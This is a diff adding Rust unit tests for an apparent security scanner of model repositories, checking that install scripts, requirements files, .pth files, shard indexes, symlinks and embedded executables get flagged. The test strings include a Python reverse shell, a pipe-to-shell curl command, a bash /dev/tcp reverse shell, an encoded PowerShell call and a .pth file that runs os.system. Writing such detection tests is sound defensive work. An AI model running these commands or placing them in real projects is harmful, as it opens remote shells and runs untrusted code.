@@ -420,3 +420,59 @@ fn python_that_acts_in_use() {
     let shell = "import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('h', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n";
     check(&[("tool.py", shell)], &[("PYC005", High)]);
 }
+
+#[test]
+fn what_lies_beside_the_weights() {
+    check(
+        &[("install.sh", "#!/bin/sh\nset -e\npip install -r requirements.txt\ncurl -L https://x/y -o y\n")],
+        &[],
+    );
+    check(&[("install.sh", "curl http://x/y | sh\n")], &[("REP002", High)]);
+    check(&[("run", "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n")], &[("REP002", High)]);
+    check(&[("run.ps1", "powershell -enc \\\n ZQBj\n")], &[("REP002", High)]);
+    check(
+        &[(
+            "requirements.txt",
+            "torch==2.1\nnumpy>=1 # fine\n--extra-index-url https://download.pytorch.org/whl/cu118\n",
+        )],
+        &[],
+    );
+    check(&[("requirements.txt", "--extra-index-url http://host/simple\n")], &[("REP003", Medium)]);
+    check(&[("requirements.txt", "x @ git+https://host/x.git\n")], &[("REP003", Medium)]);
+    check(&[("requirements.txt", "torchtriton\n")], &[("REP003", Medium)]);
+    check(&[("evil.pth", "import os; os.system('id')\n")], &[("REP004", High)]);
+    check(&[("paths.pth", "../lib\nimportant\n")], &[]);
+    check(&[("sitecustomize.py", "x = 1\n")], &[("REP007", High)]);
+    check(&[("README.md", "---\nlicense: mit\ntags: [a]\n---\n# Model\nA {% model %}\n")], &[]);
+    check(&[("README.md", "Load with `trust_remote_code=True`.\n")], &[("REP008", Low)]);
+    check(&[(".hidden", "text\n"), (".gitattributes", "*.bin filter=lfs\n")], &[("REP006", Low)]);
+}
+
+#[test]
+fn shards_and_links() {
+    let index = r#"{"weight_map": {"a": "m-1.txt", "b": "m-2.txt"}}"#;
+    check(&[("m.index.json", index), ("m-1.txt", "x"), ("m-2.txt", "x")], &[]);
+    check(&[("m.index.json", index), ("m-1.txt", "x")], &[("REP005", Medium)]);
+    check(&[("m.index.json", r#"{"weight_map": {"a": "../../x"}}"#)], &[("REP005", High)]);
+    let mut linked = model(&[]);
+    for kind in [
+        EntryKind::SymlinkOutside { target: "/etc/passwd".to_owned() },
+        EntryKind::SymlinkInside { target: "x".to_owned() },
+    ] {
+        linked.tree.push(TreeEntry { path: ArtifactPath::file("w.bin"), kind, size: 0, executable: false });
+    }
+    assert_eq!(found(&linked), [("REP006".to_owned(), High)]);
+}
+
+#[test]
+fn programs_and_pointers() {
+    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
+    elf.resize(64, 0);
+    assert_eq!(found(&model(&[("lib/x.so", &elf)])), [("EXE001".to_owned(), Medium)]);
+    assert_eq!(found(&model(&[("model.safetensors", &elf)])), [("EXE001".to_owned(), High)]);
+    assert_eq!(found(&model(&[("x.bin", b"MZ is no program by itself")])), []);
+    let pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n";
+    let pointed = model(&[("model.safetensors", pointer)]);
+    assert_eq!(found(&pointed), [("REP001".to_owned(), Medium)]);
+    assert_eq!(pointed.issues.len(), 1);
+}
